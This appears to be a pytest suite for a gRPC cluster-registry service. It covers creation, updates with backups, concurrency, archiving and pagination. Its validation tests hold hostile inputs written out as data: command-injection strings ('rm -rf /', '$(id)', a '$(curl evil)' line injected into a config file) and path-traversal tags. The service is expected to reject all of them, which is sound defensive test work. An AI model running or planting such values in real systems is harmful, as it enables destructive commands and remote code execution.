"""The registry over gRPC: clusters, their files, and what is refused."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import grpc
import pytest
from google.rpc import error_details_pb2
from grpc_status import rpc_status
from podyard.cluster_lifecycle.v1 import cluster_lifecycle_service_pb2 as pb
from podyard.cluster_lifecycle.v1 import cluster_pb2

INVALID = grpc.StatusCode.INVALID_ARGUMENT


def cluster(tag: str, etag: str = "", **config: Any) -> cluster_pb2.Cluster:
    config.setdefault("gpu_instance_count", 2)
    return cluster_pb2.Cluster(tag=tag, etag=etag, config=cluster_pb2.ClusterConfig(**config))


async def create(stub: Any, tag: str, request_id: str = "", **config: Any) -> cluster_pb2.Cluster:
    request = pb.CreateClusterRequest(cluster=cluster(tag, **config), request_id=request_id)
    created: cluster_pb2.Cluster = (await stub.CreateCluster(request)).cluster
    return created


async def update(stub: Any, changed: cluster_pb2.Cluster, **fields: Any) -> Any:
    return await stub.UpdateCluster(pb.UpdateClusterRequest(cluster=changed, **fields))


async def refused(call: Any) -> grpc.aio.AioRpcError:
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await call
    return caught.value


def bad_fields(error: grpc.aio.AioRpcError) -> list[str]:
    # It reads an error just as it reads a call.
    for detail in rpc_status.from_call(error).details:  # type: ignore[arg-type]
        bad = error_details_pb2.BadRequest()
        if detail.Unpack(bad):
            return [violation.field for violation in bad.field_violations]
    return []


def config_folder(tmp_path: Path, tag: str) -> Path:
    return tmp_path / "state" / "managed_clusters_info" / tag / "config"


async def test_a_cluster_is_created_with_its_folders_and_file(stub: Any, tmp_path: Path) -> None:
    created = await create(stub, "demo", aws_region="us-west-2", gpu_capacity_az="us-west-2c")
    assert created.config.stack_name == "full-stack-demo"
    assert created.config.model_bucket == "cluster-mount-demo"
    assert created.HasField("create_time")
    assert not created.problems
    folder = config_folder(tmp_path, "demo").parent
    assert sorted(path.name for path in folder.iterdir()) == [
        "config",
        "current",
        "logs",
        "metadata",
    ]
    text = (folder / "config" / "init_envs").read_text()
    assert "export AWS_REGION=us-west-2\n" in text
    assert "# export FTP_NAME=your-ftp-name\n" in text
    assert (await stub.GetCluster(pb.GetClusterRequest(tag="demo"))).cluster == created


async def test_all_bad_values_are_told_at_once_and_nothing_is_written(
    stub: Any, tmp_path: Path
) -> None:
    bad = cluster(
        "../up",
        aws_region="us-east-1; rm -rf /",
        gpu_instance_type="ml.g5.12xlarge$(id)",
        gpu_instance_count=-1,
        training_plan="`id`",
        stack_name="a b",
        model_bucket="../../etc",
    )
    error = await refused(stub.CreateCluster(pb.CreateClusterRequest(cluster=bad)))
    assert error.code() is INVALID
    assert bad_fields(error) == [
        "cluster.tag",
        "cluster.config.aws_region",
        "cluster.config.gpu_instance_type",
        "cluster.config.gpu_instance_count",
        "cluster.config.training_plan",
        "cluster.config.stack_name",
        "cluster.config.model_bucket",
    ]
    assert list((tmp_path / "state" / "managed_clusters_info").iterdir()) == []


@pytest.mark.parametrize("tag", ["..", "../demo", "demo/../demo", "/etc", "demo\n", "a\x00b", "A"])
async def test_no_tag_leaves_the_registry(stub: Any, tag: str) -> None:
    await create(stub, "demo")
    for call in (
        stub.GetCluster(pb.GetClusterRequest(tag=tag)),
        stub.DeleteCluster(pb.DeleteClusterRequest(tag=tag)),
        stub.Launch(pb.LaunchRequest(tag=tag)),
        stub.GetStatus(pb.GetStatusRequest(tag=tag)),
        stub.ListLogs(pb.ListLogsRequest(tag=tag)),
        stub.ReadLog(pb.ReadLogRequest(tag=tag, log_id="launch")),
        stub.ListOperations(pb.ListOperationsRequest(tag=tag)),
    ):
        assert bad_fields(await refused(call)) == ["tag"]
    assert bad_fields(await refused(update(stub, cluster(tag)))) == ["cluster.tag"]


async def test_what_does_not_exist_is_not_found(stub: Any) -> None:
    for call in (
        stub.GetCluster(pb.GetClusterRequest(tag="none")),
        stub.DeleteCluster(pb.DeleteClusterRequest(tag="none")),
        stub.Launch(pb.LaunchRequest(tag="none")),
        stub.GetStatus(pb.GetStatusRequest(tag="none")),
        stub.ListLogs(pb.ListLogsRequest(tag="none")),
        stub.ReadLog(pb.ReadLogRequest(tag="none", log_id="launch")),
        update(stub, cluster("none")),
        stub.GetOperation(pb.GetOperationRequest(id="none.1")),
        stub.CancelOperation(pb.CancelOperationRequest(id="none.1")),
    ):
        assert (await refused(call)).code() is grpc.StatusCode.NOT_FOUND


async def test_an_update_backs_up_first_and_keeps_the_rest(stub: Any, tmp_path: Path) -> None:
    created = await create(stub, "demo")
    file = config_folder(tmp_path, "demo") / "init_envs"
    file.write_text("# mine\n" + file.read_text() + "export MY_OWN=1\n")
    before = file.read_text()
    present = (await stub.GetCluster(pb.GetClusterRequest(tag="demo"))).cluster
    assert present.etag != created.etag
    stale = await refused(update(stub, cluster("demo", created.etag, gpu_instance_count=9)))
    assert stale.code() is grpc.StatusCode.ABORTED
    assert file.read_text() == before

    answers = [await update(stub, cluster("demo", gpu_instance_count=count)) for count in (3, 4, 5)]
    assert file.read_text() == before.replace("COUNT=2", "COUNT=5")
    backups = [file.with_name(answer.backup).read_text() for answer in answers]
    assert len({answer.backup for answer in answers}) == 3
    assert all(answer.backup.startswith("init_envs.backup.20") for answer in answers)
    assert backups == [before, before.replace("=2\n", "=3\n"), before.replace("=2\n", "=4\n")]


async def test_an_update_that_changes_nothing_writes_nothing(stub: Any, tmp_path: Path) -> None:
    await create(stub, "demo")
    answer = await update(stub, cluster("demo"))
    preview = await update(stub, cluster("demo", gpu_instance_count=7), validate_only=True)
    assert answer.backup == ""
    assert preview.cluster.config.gpu_instance_count == 7
    assert [path.name for path in config_folder(tmp_path, "demo").iterdir()] == ["init_envs"]


async def test_twenty_updates_at_once_follow_one_another(stub: Any, tmp_path: Path) -> None:
    created = await create(stub, "demo")
    counts = range(10, 30)
    same_etag = [update(stub, cluster("demo", created.etag, gpu_instance_count=n)) for n in counts]
    outcomes = await asyncio.gather(*same_etag, return_exceptions=True)
    won = [outcome for outcome in outcomes if not isinstance(outcome, BaseException)]
    lost = [outcome for outcome in outcomes if isinstance(outcome, grpc.aio.AioRpcError)]
    assert len(won) == 1
    assert {error.code() for error in lost} == {grpc.StatusCode.ABORTED}
    await asyncio.gather(*(update(stub, cluster("demo", gpu_instance_count=n)) for n in counts))
    names = [path.name for path in config_folder(tmp_path, "demo").iterdir()]
    assert sum(name.startswith("init_envs.backup.") for name in names) in (20, 21)
    assert not any(name.endswith(".tmp") for name in names)


async def test_a_file_broken_by_hand_is_told_and_refused(stub: Any, tmp_path: Path) -> None:
    await create(stub, "demo")
    file = config_folder(tmp_path, "demo") / "init_envs"
    file.write_text(
        file.read_text() + "export AWS_REGION=$(curl evil)\nexport GPU_INSTANCE_COUNT=x\n"
    )
    present = (await stub.GetCluster(pb.GetClusterRequest(tag="demo"))).cluster
    assert [problem.split()[1] for problem in present.problems] == [
        "AWS_REGION",
        "GPU_INSTANCE_COUNT",
    ]
    error = await refused(stub.Launch(pb.LaunchRequest(tag="demo")))
    assert error.code() is grpc.StatusCode.FAILED_PRECONDITION
    assert "GPU_INSTANCE_COUNT" in str(error.details())
    assert not (await update(stub, cluster("demo"))).cluster.problems


async def test_creating_again_is_refused_unless_it_is_the_same_request(stub: Any) -> None:
    first = await create(stub, "demo", request_id="r1")
    assert (await refused(create(stub, "demo"))).code() is grpc.StatusCode.ALREADY_EXISTS
    assert await create(stub, "demo", request_id="r1") == first
    other = await refused(create(stub, "demo", request_id="r1", gpu_instance_count=9))
    assert other.code() is grpc.StatusCode.ALREADY_EXISTS
    assert "r1" in str(other.details())
    changed = cluster("demo", gpu_instance_count=5)
    backup = (await update(stub, changed, request_id="r2")).backup
    assert (await update(stub, changed, request_id="r2")).backup == backup


async def test_one_of_many_creations_at_once_wins(stub: Any) -> None:
    outcomes = await asyncio.gather(
        *(create(stub, "demo") for _ in range(10)), return_exceptions=True
    )
    assert sum(isinstance(outcome, cluster_pb2.Cluster) for outcome in outcomes) == 1


async def test_a_deleted_cluster_is_kept_in_the_archive(stub: Any, tmp_path: Path) -> None:
    created = await create(stub, "demo")
    text = (config_folder(tmp_path, "demo") / "init_envs").read_text()
    wrong = pb.DeleteClusterRequest(tag="demo", etag="other")
    assert (await refused(stub.DeleteCluster(wrong))).code() is grpc.StatusCode.ABORTED
    request = pb.DeleteClusterRequest(tag="demo", etag=created.etag, request_id="d1")
    archive = (await stub.DeleteCluster(request)).archive
    assert (await stub.DeleteCluster(request)).archive == archive
    assert (tmp_path / "state" / archive / "config" / "init_envs").read_text() == text
    assert not (await stub.ListClusters(pb.ListClustersRequest())).clusters
    await create(stub, "demo")
    second = (await stub.DeleteCluster(pb.DeleteClusterRequest(tag="demo"))).archive
    assert second != archive


async def test_clusters_are_listed_in_pages(stub: Any) -> None:
    for tag in ("c", "a", "b", "e", "d"):
        await create(stub, tag)
    seen: list[str] = []
    token = ""
    while True:
        page = await stub.ListClusters(pb.ListClustersRequest(page_size=2, page_token=token))
        assert page.total_size == 5
        seen += [found.tag for found in page.clusters]
        token = page.next_page_token
        if not token:
            break
    assert seen == ["a", "b", "c", "d", "e"]
    error = await refused(stub.ListClusters(pb.ListClustersRequest(page_token="bogus")))
    assert bad_fields(error) == ["page_token"]


async def test_validate_only_launch_starts_nothing(stub: Any) -> None:
    await create(stub, "demo")
    answer = await stub.Launch(pb.LaunchRequest(tag="demo", validate_only=True))
    assert not answer.HasField("operation")
    assert not (await stub.ListOperations(pb.ListOperationsRequest(tag="demo"))).operations


async def test_an_unknown_state_of_operations_is_named(stub: Any) -> None:
    error = await refused(
        stub.ListOperations(
            pb.ListOperationsRequest(
                states=["OPERATION_STATE_QUEUED", "OPERATION_STATE_UNSPECIFIED"]
            )
        )
    )
    assert bad_fields(error) == ["states[1]"]


async def test_the_status_of_a_broken_file_asks_nobody(stub: Any, tmp_path: Path) -> None:
    await create(stub, "demo")
    file = config_folder(tmp_path, "demo") / "init_envs"
    file.write_text(file.read_text() + "export AWS_REGION='us-east-1.evil.example'\n")
    status = (await stub.GetStatus(pb.GetStatusRequest(tag="demo"))).launch
    assert status.state == cluster_pb2.STEP_STATE_UNKNOWN
    assert "AWS_REGION" in status.message
